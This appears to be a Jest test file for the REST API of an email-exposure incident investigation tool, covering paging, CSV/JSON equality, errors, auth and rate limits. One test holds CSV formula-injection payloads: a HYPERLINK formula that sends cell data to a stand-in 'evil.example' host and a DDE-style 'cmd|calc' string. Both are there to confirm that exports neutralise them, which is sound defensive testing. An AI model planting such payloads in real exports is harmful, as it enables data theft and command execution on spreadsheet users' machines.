/**
 * The REST mirror against the real server and the fixture incident: a Logic-Apps-style client that follows
 * nextLink to the end gets exactly what GraphQL answers; CSV of an exposure equals its JSON; every refusal has
 * the one error shape, a status, and (for 400) the parameter at fault.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import { flushAccessLogs } from '../../src/api/http/access-log';
import { ApiKeyStore } from '../../src/api/http/auth';
import { makeBindRecord, toNdjson } from '../fixtures/generate.cjs';
import { startTestServer, type TestServer } from '../support/server';
import { expected, ids, importIncident } from './contract-queries';

const json = (response: Response): Promise<any> => response.json();

/** Follows nextLink like a Logic Apps connector with x-ms-pageable: value arrays concatenated, page after page. */
async function followAll(url: string, key: string): Promise<{ rows: any[]; pages: number; first: any }> {
  const rows: any[] = [];
  let pages = 0;
  let first: any = null;
  let next: string | null = url;
  while (next) {
    const response = await fetch(next, { headers: { 'x-api-key': key } });
    expect(response.status).toBe(200);
    const body = (await response.json()) as { value: any[]; nextLink: string | null };
    first ??= body;
    rows.push(...body.value);
    pages++;
    if (body.nextLink) expect(body.nextLink).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/api\/v1\//);
    next = body.nextLink;
    if (pages > 1000) throw new Error('nextLink never ends');
  }
  return { rows, pages, first };
}

describe('REST mirror /api/v1', () => {
  let t: TestServer;
  let base: string;
  beforeAll(async () => {
    t = await startTestServer({ RATE_LIMIT_PER_MINUTE: '0' });
    base = `${t.url}/api/v1`;
    await importIncident(t);
  });
  afterAll(async () => t.close());

  const get = (path: string, headers: Record<string, string> = {}, key: string | null = t.key) =>
    fetch(`${base}${path}`, { headers: { ...(key ? { authorization: `Bearer ${key}` } : {}), ...headers } });

  test('sessions of an IP, followed through nextLink 2 at a time, equal the GraphQL connection', async () => {
    const { body } = await t.gql(
      `query($ip: String!) { clientIp(address: $ip) { sessions(first: 500) { edges { node { sessionId firstSeen lastSeen recordCount boundMessageCount clientIps { address } mailboxes { userPrincipalName } } } } } }`,
      { ip: ids.IP_OFFICE },
    );
    const graphql = body.data.clientIp.sessions.edges.map((e: any) => e.node);
    expect(graphql.length).toBeGreaterThan(2);
    const { rows, pages } = await followAll(`${base}/ips/${encodeURIComponent(ids.IP_OFFICE)}/sessions?top=2`, t.key);
    expect(pages).toBe(Math.ceil(graphql.length / 2));
    expect(rows.map((r) => ({ sessionId: r.sessionId, firstSeen: r.firstSeen, lastSeen: r.lastSeen, recordCount: r.recordCount, boundMessageCount: r.boundMessageCount, clientIps: r.clientIps, mailboxes: r.mailboxes }))).toEqual(
      graphql.map((s: any) => ({ ...s, clientIps: s.clientIps.map((c: any) => c.address), mailboxes: s.mailboxes.map((m: any) => m.userPrincipalName) })),
    );
    // Any spelling of the address is the same question.
    const spelled = await followAll(`${base}/ips/${encodeURIComponent(`${ids.IP_OFFICE}:443`)}/sessions`, t.key);
    expect(spelled.rows).toEqual(rows);
  });

  test("an exposure followed page by page is exactly the GraphQL answer, with the totals, coverage and warnings beside it", async () => {
    const q = expected.exposures.aliceByAttacker.query;
    const { body } = await t.gql(
      `query($m: String!, $s: [String!]) { exposure(mailbox: $m, sessionIds: $s) { boundMessageCount bindOperationCount
         coverage { covered { start end } uncovered { start end } } warnings { code }
         boundMessages(first: 500) { edges { node { internetMessageId firstAccessedAt lastAccessedAt accessCount folders { path } sessions { sessionId } } } } } }`,
      { m: q.mailbox, s: q.sessionIds },
    );
    const exposure = body.data.exposure;
    const { rows, pages, first } = await followAll(`${base}/mailboxes/${encodeURIComponent('Alice@Contoso.com')}/exposure?sessionId=${q.sessionIds.join(',')}&top=3`, t.key);
    expect(pages).toBe(Math.ceil(exposure.boundMessages.edges.length / 3));
    expect(rows).toEqual(
      exposure.boundMessages.edges.map(({ node: m }: any) => ({
        internetMessageId: m.internetMessageId,
        firstAccessedAt: m.firstAccessedAt,
        lastAccessedAt: m.lastAccessedAt,
        accessCount: m.accessCount,
        folders: m.folders.map((f: any) => f.path),
        sessionIds: m.sessions.map((s: any) => s.sessionId),
      })),
    );
    expect(rows).toHaveLength(expected.exposures.aliceByAttacker.boundMessageCount);
    expect(first.boundMessageCount).toBe(exposure.boundMessageCount);
    expect(first.bindOperationCount).toBe(exposure.bindOperationCount);
    expect(first.coverage.covered.map((w: any) => w.start)).toEqual(exposure.coverage.covered.map((w: any) => w.start));
    expect(first.warnings.map((w: any) => w.code)).toEqual(exposure.warnings.map((w: any) => w.code));
    expect(Array.isArray(first.unauditedWindows)).toBe(true);
  });

  test('CSV of an exposure (Accept or format=csv, all pages streamed) equals its JSON', async () => {
    const path = `/mailboxes/alice@contoso.com/exposure`;
    const json = await followAll(`${base}${path}?top=4`, t.key);
    expect(json.rows.length).toBeGreaterThan(4);
    for (const response of [await get(path, { accept: 'text/csv' }), await get(`${path}?format=csv&top=4`)]) {
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
      const records: Record<string, string>[] = parseCsv(await response.text(), { columns: true });
      expect(records).toEqual(
        json.rows.map((r) => ({
          internetMessageId: r.internetMessageId,
          firstAccessedAt: r.firstAccessedAt,
          lastAccessedAt: r.lastAccessedAt,
          accessCount: String(r.accessCount),
          folders: JSON.stringify(r.folders),
          sessionIds: JSON.stringify(r.sessionIds),
        })),
      );
    }
  });

  test('the notification list followed through nextLink is the GraphQL answer, every tier; its CSV equals its JSON', async () => {
    const graphqlRows = async (mailboxes: string[], sessionIds?: string[]) => {
      const { body } = await t.gql(
        `query($m: [String!]!, $s: [String!]) { notificationList(mailboxes: $m, sessionIds: $s, first: 500) { totalCount edges { node {
           mailbox { userPrincipalName } internetMessageId tier evidence firstAccessedAt lastAccessedAt subject sender recipients
           folders { path } sessions { sessionId } clientIps { address } apps { appId } evidenceRecordIds unauditedReason unauditedDetail } } } }`,
        { m: mailboxes, s: sessionIds },
      );
      expect(body.errors).toBeUndefined();
      expect(body.data.notificationList.edges).toHaveLength(body.data.notificationList.totalCount);
      return body.data.notificationList.edges.map(({ node: e }: any) => ({
        mailbox: e.mailbox.userPrincipalName,
        internetMessageId: e.internetMessageId,
        tier: e.tier,
        evidence: e.evidence,
        firstAccessedAt: e.firstAccessedAt,
        lastAccessedAt: e.lastAccessedAt,
        subject: e.subject,
        sender: e.sender,
        recipients: e.recipients,
        folders: e.folders.map((f: any) => f.path),
        sessions: e.sessions.map((x: any) => x.sessionId),
        clientIps: e.clientIps.map((c: any) => c.address),
        apps: e.apps.map((a: any) => a.appId),
        evidenceRecordIds: e.evidenceRecordIds,
        unauditedReason: e.unauditedReason,
        unauditedDetail: e.unauditedDetail,
      }));
    };
    // Everyone in three mailboxes (CONFIRMED and UNKNOWN rows); any spelling of the UPNs, repeated and
    // comma-separated parameters ask the same question.
    const everyone = await graphqlRows(['alice@contoso.com', 'bob@contoso.com', 'carol@contoso.com']);
    const path = '/notification-list?mailboxes=Alice@Contoso.com,bob@contoso.com&mailboxes=CAROL@contoso.com';
    const { rows, pages } = await followAll(`${base}${path}&top=7`, t.key);
    expect(pages).toBe(Math.ceil(everyone.length / 7));
    expect(rows).toEqual(everyone);
    // Alice's Outlook desktop, which only synced: PRESUMED rows, through the sessionIds filter.
    const outlook = await graphqlRows(['alice@contoso.com'], [ids.S_ALICE_OUTLOOK]);
    const narrowed = await followAll(`${base}/notification-list?mailboxes=alice@contoso.com&sessionIds=${ids.S_ALICE_OUTLOOK}&top=5`, t.key);
    expect(narrowed.rows).toEqual(outlook);
    expect(new Set([...rows, ...narrowed.rows].map((r) => r.tier))).toEqual(new Set(['CONFIRMED', 'PRESUMED', 'UNKNOWN']));

    const csv = await get(`${path}&format=csv&top=7`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    const records: Record<string, string>[] = parseCsv(await csv.text(), { columns: true });
    const cell = (v: unknown) => (v === null ? '' : Array.isArray(v) ? JSON.stringify(v) : String(v));
    expect(records).toEqual(rows.map((r) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, cell(v)]))));

    // A missing or unknown mailbox is a 400 naming what to fix, never an empty list.
    const missing = await get('/notification-list');
    expect(missing.status).toBe(400);
    expect((await json(missing)).errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', param: 'mailboxes' });
    const unknown = await get('/notification-list?mailboxes=nobody@contoso.com');
    expect(unknown.status).toBe(400);
    expect((await json(unknown)).errors[0].message).toMatch(/nobody@contoso\.com/);
  });

  test('a session, its messages, a message, a mailbox, apps, pivot, timeline and activity answer like GraphQL', async () => {
    const session = await json(await get(`/sessions/${ids.S_ATTACK.toUpperCase()}`));
    expect(session.sessionId).toBe(ids.S_ATTACK);
    expect([...session.clientIps].sort()).toEqual([...expected.sessions[ids.S_ATTACK].clientIps].sort());

    const messages = await followAll(`${base}/sessions/${ids.S_ATTACK}/messages?top=5`, t.key);
    const { body: g } = await t.gql(`query($s: String!) { session(sessionId: $s) { messageAccesses(first: 500) { edges { node { internetMessageId accessedAt } } } } }`, { s: ids.S_ATTACK });
    expect(messages.rows.map((r) => [r.internetMessageId, r.accessedAt])).toEqual(g.data.session.messageAccesses.edges.map((e: any) => [e.node.internetMessageId, e.node.accessedAt]));

    const one = messages.rows[0];
    const accesses = await followAll(`${base}/messages/${encodeURIComponent(one.internetMessageId)}`, t.key);
    expect(accesses.rows.some((a) => a.sessionId === ids.S_ATTACK && a.accessedAt === one.accessedAt)).toBe(true);

    const mailbox = await json(await get('/mailboxes/CAROL@contoso.com'));
    expect(mailbox.userPrincipalName).toBe('carol@contoso.com');
    expect(mailbox.unauditedWindows.length).toBeGreaterThan(0);

    const app = await json(await get(`/apps/${ids.APP_ID.toUpperCase()}`));
    expect(app.appId).toBe(ids.APP_ID);
    const apps = await followAll(`${base}/apps?top=1`, t.key);
    expect(apps.rows.map((a) => a.appId)).toContain(ids.APP_ID);

    const pivot = await json(await get(`/pivot?ip=${ids.IP_ATTACK_1}&hops=3`));
    const { body: p } = await t.gql(`query($ips: [String!]) { pivot(seed: { clientIps: $ips }, maxHops: 3) { sessions { sessionId } clientIps { address } truncated } }`, { ips: [ids.IP_ATTACK_1] });
    expect(pivot.value.filter((r: any) => r.kind === 'SESSION').map((r: any) => r.id).sort()).toEqual(p.data.pivot.sessions.map((s: any) => s.sessionId).sort());
    expect(pivot.value.filter((r: any) => r.kind === 'CLIENT_IP').map((r: any) => r.id).sort()).toEqual(p.data.pivot.clientIps.map((c: any) => c.address).sort());
    expect(pivot.truncated).toBe(p.data.pivot.truncated);
    expect(pivot.nextLink).toBeUndefined();

    const timeline = await followAll(`${base}/timeline?sessionId=${ids.S_ATTACK}&top=7`, t.key);
    const { body: r } = await t.gql(`query($s: String) { auditRecords(first: 500, filter: { sessionId: $s }) { edges { node { id creationTime } } } }`, { s: ids.S_ATTACK });
    expect(timeline.rows.map((x) => x.id)).toEqual(r.data.auditRecords.edges.map((e: any) => e.node.id));

    const activity = await json(await get('/activity?interval=day&from=2025-03-01T00:00:00Z&to=2025-03-15T00:00:00Z&mailbox=alice@contoso.com'));
    const { body: a } = await t.gql(`{ activity(interval: DAY, from: "2025-03-01T00:00:00Z", to: "2025-03-15T00:00:00Z", mailbox: "alice@contoso.com") { key label buckets { start records operations messages } } }`);
    expect(activity.value).toEqual(a.data.activity.flatMap((s: any) => s.buckets.map((b: any) => ({ key: s.key, label: s.label, ...b }))));

    const top = await json(await get('/activity/top?groupBy=CLIENT_IP&from=2025-03-01T00:00:00Z&to=2025-03-15T00:00:00Z&mailbox=alice@contoso.com&rows=3'));
    const { body: tq } = await t.gql(`{ activityTop(groupBy: CLIENT_IP, from: "2025-03-01T00:00:00Z", to: "2025-03-15T00:00:00Z", mailbox: "alice@contoso.com", first: 3) { key label messages records operations firstSeen lastSeen } }`);
    expect(top.value).toEqual(tq.data.activityTop);
    expect(top.value).toHaveLength(3);
  });

  test('unknown things are 404, bad parameters 400 naming the parameter, in the one error shape', async () => {
    const cases: [string, number, string, string | null][] = [
      ['/mailboxes/nobody@contoso.com/exposure', 404, 'NOT_FOUND', null],
      ['/mailboxes/nobody@contoso.com', 404, 'NOT_FOUND', null],
      ['/sessions/no-such-session', 404, 'NOT_FOUND', null],
      ['/sessions/no-such-session/messages', 404, 'NOT_FOUND', null],
      [`/ips/${ids.IP_UNUSED}/sessions`, 404, 'NOT_FOUND', null],
      ['/messages/%3Cnever%40bound%3E', 404, 'NOT_FOUND', null],
      ['/apps/unknown-app', 404, 'NOT_FOUND', null],
      ['/ips/not-an-ip/sessions', 400, 'BAD_USER_INPUT', 'ip'],
      ['/mailboxes/alice@contoso.com/exposure?from=yesterday', 400, 'BAD_USER_INPUT', 'from'],
      ['/mailboxes/alice@contoso.com/exposure?from=2025-03-12T00:00:00Z&to=2025-03-10T00:00:00Z', 400, 'BAD_USER_INPUT', 'from'],
      ['/mailboxes/alice@contoso.com/exposure?top=501', 400, 'BAD_USER_INPUT', 'top'],
      ['/mailboxes/alice@contoso.com/exposure?$skiptoken=garbage', 400, 'BAD_USER_INPUT', '$skiptoken'],
      ['/mailboxes/alice@contoso.com/exposure?mailBox=typo', 400, 'BAD_USER_INPUT', 'mailBox'],
      ['/mailboxes/alice@contoso.com/exposure?format=xlsx', 400, 'BAD_USER_INPUT', 'format'],
      ['/pivot', 400, 'BAD_USER_INPUT', 'ip'],
      ['/pivot?ip=203.0.113.10&hops=9', 400, 'BAD_USER_INPUT', 'hops'],
      ['/timeline', 400, 'BAD_USER_INPUT', 'mailbox'],
      ['/activity?interval=WEEK&from=2025-03-01&to=2025-03-02', 400, 'BAD_USER_INPUT', 'interval'],
      ['/activity?interval=MINUTE&from=2020-03-01&to=2025-03-02', 400, 'BAD_USER_INPUT', null],
      ['/no-such-route', 404, 'NOT_FOUND', null],
    ];
    for (const [path, status, code, param] of cases) {
      const response = await get(path);
      const body = await json(response);
      expect([path, response.status]).toEqual([path, status]);
      expect(body.errors[0].extensions.code).toBe(code);
      expect(typeof body.errors[0].message).toBe('string');
      if (param) expect([path, body.errors[0].extensions.param]).toEqual([path, param]);
    }
  });

  test('before execution: 401 without a key, 403 for the role, 413 with a body, 405 for a write', async () => {
    const none = await get('/apps', {}, null);
    expect(none.status).toBe(401);
    expect((await json(none)).errors[0].extensions.code).toBe('UNAUTHENTICATED');
    const reader = await new ApiKeyStore(t.db.dataSource).create({ name: 'rest reader', role: 'reader' });
    expect((await get('/apps', {}, reader)).status).toBe(200);
    const forbidden = await get('/access-log', {}, reader);
    expect(forbidden.status).toBe(403);
    expect((await json(forbidden)).errors[0].extensions.code).toBe('FORBIDDEN');
    expect((await get('/access-log')).status).toBe(200);
    const post = await fetch(`${base}/apps`, { method: 'POST', headers: { authorization: `Bearer ${t.key}`, 'content-type': 'application/json' }, body: '{"a":1}' });
    expect(post.status).toBe(413);
    const del = await fetch(`${base}/apps`, { method: 'DELETE', headers: { authorization: `Bearer ${t.key}` } });
    expect(del.status).toBe(405);
    expect((await json(del)).errors[0].extensions.code).toBe('METHOD_NOT_ALLOWED');
  });

  test('CSV cells an attacker shaped (folder path, app id) cannot run as formulas; JSON keeps them verbatim', async () => {
    const evil = { folder: '=HYPERLINK("http://evil.example/?"&A1,"open")', app: '@SUM(1+1)*cmd|calc' };
    const record = makeBindRecord({
      time: '2025-03-12T09:00:00',
      mailbox: 'mallory@contoso.com',
      sessionId: 'f0f0f0f0-1111-4222-8333-944445555666',
      clientIp: '198.18.0.99',
      clientAppId: evil.app,
      folders: [{ path: evil.folder, items: ['<evil-1@example.com>'] }],
    });
    const [batch] = await t.importer.importContent(toNdjson([record]), { orgId: 1, source: 'cli', fileName: 'evil.ndjson' });
    expect(batch.status).toBe('SUCCEEDED');
    const path = '/mailboxes/mallory@contoso.com/exposure';
    const jsonRows = (await followAll(`${base}${path}`, t.key)).rows;
    expect(jsonRows[0].folders).toEqual([evil.folder]);
    const csv = await (await get(`${path}?format=csv`)).text();
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const [row] = parseCsv(csv, { columns: true }) as Record<string, string>[];
    expect(JSON.parse(row.folders)).toEqual([evil.folder]);
    const timeline = parseCsv(await (await get('/timeline?mailbox=mallory@contoso.com', { accept: 'text/csv' })).text(), { columns: true }) as Record<string, string>[];
    expect(timeline.map((r) => r.clientAppId)).toEqual([`'${evil.app}`]);
  });

  test('every REST request is in the access log with its operationId and row count', async () => {
    // Rows are written in batches: what earlier tests left pending is written first, so `before` counts it.
    const logged = async () => {
      await flushAccessLogs();
      return t.db.dataSource.query(`SELECT route, operation, rows_returned, status FROM access_log WHERE operation = 'listAccessLog' ORDER BY id DESC`);
    };
    const before = (await logged()).length;
    expect((await get('/access-log?top=2')).status).toBe(200);
    // The row is written once the answer is sent, outside the request.
    for (let i = 0; i < 50 && (await logged()).length === before; i++) await new Promise((r) => setTimeout(r, 50));
    const rows = await logged();
    expect(rows).toHaveLength(before + 1);
    expect(rows[0]).toEqual({ route: 'GET /api/v1/access-log', operation: 'listAccessLog', rows_returned: 2, status: 200 });
  });
});

describe('REST mirror: rate limit and outage answer 429 / 503 with Retry-After', () => {
  let t: TestServer;
  beforeAll(async () => {
    t = await startTestServer({ RATE_LIMIT_PER_MINUTE: '60', RATE_LIMIT_BURST: '2' });
  });
  afterAll(async () => t.close());

  test('429 with Retry-After past the burst', async () => {
    const statuses: number[] = [];
    let last: Response | null = null;
    for (let i = 0; i < 4; i++) {
      last = await fetch(`${t.url}/api/v1/apps`, { headers: { authorization: `Bearer ${t.key}` } });
      statuses.push(last.status);
    }
    expect(statuses.slice(0, 2)).toEqual([200, 200]);
    expect(statuses[3]).toBe(429);
    expect(Number(last!.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
    expect((await json(last!)).errors[0].extensions.code).toBe('RATE_LIMITED');
  });
});
